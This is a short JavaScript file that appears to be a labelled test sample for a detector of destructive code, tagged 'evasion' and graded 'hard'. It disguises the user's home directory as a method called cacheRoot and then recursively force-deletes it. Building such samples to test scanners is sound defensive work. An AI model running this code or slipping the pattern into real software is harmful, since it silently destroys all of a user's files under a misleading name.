// evasion: a class method returns the home directory; its result is deleted
// grade: hard; does: delete
const fs = require("fs");
const os = require("os");
class Layout {
  cacheRoot() {
    return os.homedir();
  }
}
const layout = new Layout();
fs.rmSync(layout.cacheRoot(), { recursive: true, force: true });
